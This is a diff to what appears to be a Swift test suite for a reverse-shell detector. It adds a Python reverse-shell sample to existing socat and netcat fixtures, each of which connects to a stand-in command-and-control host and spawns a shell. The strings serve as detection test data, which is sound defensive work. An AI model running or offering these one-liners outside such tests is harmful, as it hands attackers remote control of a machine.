@@ -107,6 +107,10 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     ("socat dtls:c2.h.example:4444,verify=0 exec:sh", "c2.h.example"),
     ("sh -c 'socat TCP:c2.h.example:4444 EXEC:'\\''bash -li'\\'',pty,stderr,setsid'", "c2.h.example"),
     ("nc ::1 4444 -e bash", "::1"),
+    (
+      "import sys,socket,os,pty\nh = sys.argv[1] if len(sys.argv) > 1 else 'c2.h.example'\np = int(sys.argv[2]) if len(sys.argv) > 2 else 4444\ns=socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
+      "c2.h.example"
+    ),
   ])
   func readsTheHost(text: String, host: String) {
     let found = shells(text).first { $0.kind == .reverseShell }
